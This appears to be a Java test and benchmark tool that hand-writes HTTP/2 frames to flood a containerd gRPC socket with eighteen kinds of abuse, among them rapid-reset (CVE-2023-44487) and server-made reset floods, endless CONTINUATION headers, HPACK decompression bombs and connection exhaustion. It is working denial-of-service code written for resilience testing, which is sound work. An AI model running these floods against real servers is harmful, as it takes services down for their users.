package io.berth.e2e;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.Channels;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/**
 * A process that does to a gRPC socket what no client should: {@code HostileClient KIND SOCKET}
 * ({@code HostileClient kinds} lists what there is). It says "begun" once it is at it, goes on
 * until its input ends, and says then what it did. It writes its frames (RFC 9113) itself, for no
 * library would, and needs nothing but the JDK: the benchmark of floods runs it, too.
 */
final class HostileClient {
  /** Connections that one process works with at once: one reads what it is told, one nothing. */
  private static final int CONNECTIONS = 2;

  /** Between two looks at connections that only stay, which costs the server nothing. */
  private static final long LOOK_NANOS = 1_000_000;

  /** Connections, or streams of one of them, where many are the attack. */
  private static final int MANY = 2_000;

  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  private static final String VERSION = "containerd.services.version.v1.Version/Version";
  private static final String SUBSCRIBE = "containerd.services.events.v1.Events/Subscribe";

  /** Answers that are long, each wherever it is served. */
  private static final List<String> LISTS =
      List.of(
          "containerd.services.introspection.v1.Introspection/Plugins",
          "containerd.services.content.v1.Content/List",
          "containerd.services.snapshots.v1.Snapshots/List",
          "containerd.services.images.v1.Images/List");

  /** What it does, over and over. */
  enum Kind {
    /** Connections that say nothing, as many as it gets. */
    CONNECTIONS,
    /** Connections that end when they have begun. */
    HANGING_UP,
    /** Connections that stop in the middle of their first bytes. */
    PREFACES,
    /** Calls that never end, on each connection more than it may have. */
    STREAMS,
    /** Calls one after the other, as fast as it goes. */
    CALLS,
    /** Leases made and taken away again, as fast as it goes. */
    WRITES,
    /** Calls that are reset at once (CVE-2023-44487). */
    RESETS,
    /** Calls that the server itself resets, by what is wrong with them (CVE-2025-8671). */
    MADE_RESETS,
    /** Pings. */
    PINGS,
    /** Settings, each to be acknowledged. */
    SETTINGS,
    /** Priorities of streams and windows that grow by a byte. */
    TRIFLES,
    /** Data frames with nothing in them. */
    EMPTY_DATA,
    /** Headers that never end, in pieces. */
    CONTINUATIONS,
    /** Headers that never end, in pieces without a byte. */
    EMPTY_CONTINUATIONS,
    /** Headers of as many bytes as are taken, and of more. */
    METADATA,
    /** A few bytes of headers that stand for many (HPACK's table, RFC 7541). */
    BOMBS,
    /** Requests that announce sixteen mebibytes and stop after some. */
    HALVES,
    /** Long answers and streams of events of which nothing is read. */
    DEAF;

    /** As it stands in a command line. */
    String word() {
      return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }
  }

  private final Kind kind;
  private final UnixDomainSocketAddress socket;
  private final AtomicLong opened = new AtomicLong();
  private final AtomicLong sent = new AtomicLong();
  private final CountDownLatch begun = new CountDownLatch(1);

  private HostileClient(Kind kind, Path socket) {
    this.kind = kind;
    this.socket = UnixDomainSocketAddress.of(socket);
  }

  public static void main(String[] arguments) throws Exception {
    if (arguments[0].equals("kinds")) {
      List.of(Kind.values()).forEach(kind -> System.out.println(kind.word()));
      return;
    }
    Kind kind = Kind.valueOf(arguments[0].toUpperCase(Locale.ROOT).replace('-', '_'));
    HostileClient client = new HostileClient(kind, Path.of(arguments[1]));
    for (int i = 0; i < CONNECTIONS; i++) {
      boolean reads = i % 2 == 0 && kind != Kind.DEAF;
      Thread.ofPlatform().daemon().start(() -> client.attack(reads));
    }
    client.begun.await();
    System.out.println("begun");
    while (System.in.read() >= 0) {
      Thread.onSpinWait();
    }
    System.out.println(
        kind.word() + ": " + client.opened + " connections, " + (client.sent.get() >> 10) + " KiB");
    System.exit(0);
  }

  private void attack(boolean reads) {
    while (true) {
      try {
        if (kind == Kind.CONNECTIONS || kind == Kind.PREFACES) {
          hold();
        } else {
          try (Wire wire = new Wire(reads)) {
            if (kind != Kind.HANGING_UP) {
              talk(wire);
            }
          }
          begun.countDown();
        }
      } catch (IOException hungUp) {
        // The server has had enough of this connection: on with the next one.
        begun.countDown();
      }
    }
  }

  /** As many as it gets, and those again that the server ends. */
  private void hold() throws IOException {
    List<SocketChannel> held = new ArrayList<>();
    ByteBuffer heard = ByteBuffer.allocate(1 << 12);
    for (int i = 0; i < MANY / CONNECTIONS; i++) {
      held.add(open());
    }
    begun.countDown();
    while (true) {
      LockSupport.parkNanos(LOOK_NANOS);
      for (int i = 0; i < held.size(); i++) {
        heard.clear();
        boolean ended;
        try {
          ended = held.get(i).read(heard) < 0;
        } catch (IOException reset) {
          ended = true;
        }
        if (ended) {
          held.get(i).close();
          held.set(i, open());
        }
      }
    }
  }

  private SocketChannel open() throws IOException {
    while (true) {
      SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX);
      try {
        channel.connect(socket);
        channel.configureBlocking(false);
        if (kind == Kind.PREFACES) {
          channel.write(ByteBuffer.wrap(text("PRI * HTTP/2.0\r\n\r\nS")));
        }
        opened.incrementAndGet();
        return channel;
      } catch (IOException full) {
        channel.close();
      }
    }
  }

  /** Does the kind's worst until the connection ends. */
  private void talk(Wire wire) throws IOException {
    wire.begin(kind == Kind.DEAF ? 0 : 65_535);
    for (int round = 0; ; round++) {
      for (int i = 0; i < 100; i++) {
        frames(wire, round * 100 + i);
      }
      wire.flush();
      begun.countDown();
    }
  }

  private void frames(Wire wire, int number) throws IOException {
    switch (kind) {
      case STREAMS -> wire.call(SUBSCRIBE, 0, text(""), empty());
      case CALLS -> wire.call(VERSION, END_STREAM, text(""), empty());
      case WRITES -> write(wire, number);
      case RESETS -> {
        wire.call(number % 2 == 0 ? VERSION : SUBSCRIBE, END_STREAM, text(""), empty());
        wire.frame(RST_STREAM, 0, wire.stream, number(8));
      }
      case MADE_RESETS -> {
        wire.call(SUBSCRIBE, END_STREAM, text(""), empty());
        wire.frame(WINDOW_UPDATE, 0, wire.stream, number(0));
      }
      case PINGS -> wire.frame(PING, 0, 0, new byte[8]);
      case SETTINGS -> wire.frame(SETTINGS, 0, 0, setting(1, number % 2 == 0 ? 0 : 4096));
      case TRIFLES -> {
        wire.frame(PRIORITY, 0, number % MANY * 2 + 1, new byte[] {0, 0, 0, 0, 1});
        wire.frame(WINDOW_UPDATE, 0, 0, number(1));
      }
      case EMPTY_DATA -> {
        if (number == 0) {
          wire.call(SUBSCRIBE, 0, text(""), new byte[0]);
        }
        wire.frame(DATA, 0, wire.stream, new byte[0]);
      }
      case CONTINUATIONS, EMPTY_CONTINUATIONS -> {
        byte[] piece =
            kind == Kind.CONTINUATIONS ? header("x" + number, "y".repeat(900)) : text("");
        if (number == 0) {
          wire.stream = 1;
          wire.frame(HEADERS, 0, 1, request(VERSION));
        }
        wire.frame(CONTINUATION, 0, 1, piece);
      }
      case METADATA -> {
        int many = number % 10 == 9 ? 5 : 3;
        wire.call(VERSION, END_STREAM, large(many), empty());
      }
      case BOMBS -> wire.call(VERSION, END_STREAM, bomb(), empty());
      case HALVES -> {
        ByteBuffer half = ByteBuffer.allocate(64).put((byte) 0).putInt((16 << 20) - 1);
        wire.call(SUBSCRIBE, 0, text(""), half.array());
      }
      case DEAF -> {
        wire.call(
            number % 2 == 0 ? SUBSCRIBE : LISTS.get(number / 2 % LISTS.size()),
            END_STREAM,
            text(""),
            empty());
      }
      case CONNECTIONS, HANGING_UP, PREFACES -> throw new IllegalStateException(kind.word());
    }
  }

  private static void write(Wire wire, int number) throws IOException {
    byte[] name = text("h" + ProcessHandle.current().pid() + "-" + wire.name + "-" + number / 2);
    ByteBuffer message = ByteBuffer.allocate(7 + name.length);
    message.put((byte) 0).putInt(2 + name.length).put((byte) 10).put((byte) name.length);
    String method = "containerd.services.leases.v1.Leases/";
    wire.call(
        method + (number % 2 == 0 ? "Create" : "Delete"),
        END_STREAM,
        text(""),
        message.put(name).array());
  }

  // --- bytes

  private static byte[] large(int headers) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    for (int i = 0; i < headers; i++) {
      bytes.writeBytes(header("x-" + i, "y".repeat(15_000)));
    }
    return bytes.toByteArray();
  }

  /** A header to be remembered, and then its number in the table over and over. */
  private static byte[] bomb() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.write(0x40);
    bytes.writeBytes(string("x-bomb"));
    bytes.writeBytes(string("y".repeat(4_000)));
    for (int i = 0; i < 4_000; i++) {
      bytes.write(0x80 | 62);
    }
    return bytes.toByteArray();
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }

  private static byte[] number(int value) {
    return ByteBuffer.allocate(Integer.BYTES).putInt(value).array();
  }

  private static byte[] setting(int name, int value) {
    return ByteBuffer.allocate(6).putShort((short) name).putInt(value).array();
  }

  /** A message of gRPC without a field. */
  private static byte[] empty() {
    return new byte[5];
  }

  /** A header as HPACK writes it at its plainest: literal, not to be remembered. */
  private static byte[] header(String name, String value) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.write(0);
    bytes.writeBytes(string(name));
    bytes.writeBytes(string(value));
    return bytes.toByteArray();
  }

  private static byte[] string(String value) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    int length = value.length();
    if (length < 127) {
      bytes.write(length);
    } else {
      bytes.write(127);
      for (length -= 127; length >= 128; length >>= 7) {
        bytes.write((length & 127) | 128);
      }
      bytes.write(length);
    }
    bytes.writeBytes(text(value));
    return bytes.toByteArray();
  }

  private static byte[] request(String method) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    for (String[] pair :
        new String[][] {
          {":method", "POST"},
          {":scheme", "http"},
          {":path", "/" + method},
          {":authority", "localhost"},
          {"content-type", "application/grpc"},
          {"te", "trailers"},
          {"containerd-namespace", "hostile"}
        }) {
      bytes.writeBytes(header(pair[0], pair[1]));
    }
    return bytes.toByteArray();
  }

  /** One connection. */
  private final class Wire implements AutoCloseable {
    private final SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX);
    private final OutputStream out =
        new BufferedOutputStream(Channels.newOutputStream(channel), 1 << 16);
    private final boolean reads;
    private final long name = opened.incrementAndGet();
    int stream = -1;

    Wire(boolean reads) throws IOException {
      this.reads = reads;
      channel.connect(socket);
    }

    void begin(int window) throws IOException {
      if (reads) {
        Thread.ofPlatform().daemon().start(this::readAll);
      }
      out.write(text("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
      frame(SETTINGS, 0, 0, setting(4, window));
    }

    private void readAll() {
      try {
        InputStream in = Channels.newInputStream(channel);
        byte[] bytes = new byte[1 << 16];
        int count = in.read(bytes);
        while (count >= 0) {
          count = in.read(bytes);
        }
      } catch (IOException ended) {
        // Its writer learns the same.
        return;
      }
    }

    void call(String method, int flags, byte[] more, byte[] message) throws IOException {
      stream += 2;
      byte[] first = request(method);
      byte[] block = ByteBuffer.allocate(first.length + more.length).put(first).put(more).array();
      int at = Math.min(block.length, 16_384);
      frame(HEADERS, at == block.length ? END_HEADERS : 0, stream, slice(block, 0, at));
      while (at < block.length) {
        int end = Math.min(block.length, at + 16_384);
        frame(CONTINUATION, end == block.length ? END_HEADERS : 0, stream, slice(block, at, end));
        at = end;
      }
      frame(DATA, flags, stream, message);
    }

    private byte[] slice(byte[] bytes, int from, int to) {
      return Arrays.copyOfRange(bytes, from, to);
    }

    void frame(int type, int flags, int of, byte[] payload) throws IOException {
      out.write(payload.length >> 16);
      out.write(payload.length >> 8);
      out.write(payload.length);
      out.write(type);
      out.write(flags);
      out.write(number(of));
      out.write(payload);
      sent.addAndGet(payload.length + 9);
    }

    void flush() throws IOException {
      out.flush();
    }

    @Override
    public void close() throws IOException {
      channel.close();
    }
  }
}
